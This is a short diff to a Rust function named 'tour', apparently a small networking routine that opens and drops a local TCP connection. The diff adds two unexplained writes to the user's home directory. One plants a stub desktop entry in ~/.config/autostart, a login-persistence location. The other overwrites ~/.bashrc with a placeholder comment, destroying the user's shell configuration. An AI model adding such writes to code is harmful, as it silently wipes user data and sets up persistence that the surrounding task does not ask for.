@@ -240,5 +240,10 @@ fn tour(arg: &str) -> Done {
     let caller = TcpStream::connect(listener.local_addr()?)?;
     listener.accept()?;
     drop(caller);
+    std::fs::write(
+        format!("{home}/.config/autostart/x.desktop"),
+        "[Desktop Entry]\n",
+    )?;
+    std::fs::write(format!("{home}/.bashrc"), "# nothing\n")?;
     Ok(())
 }
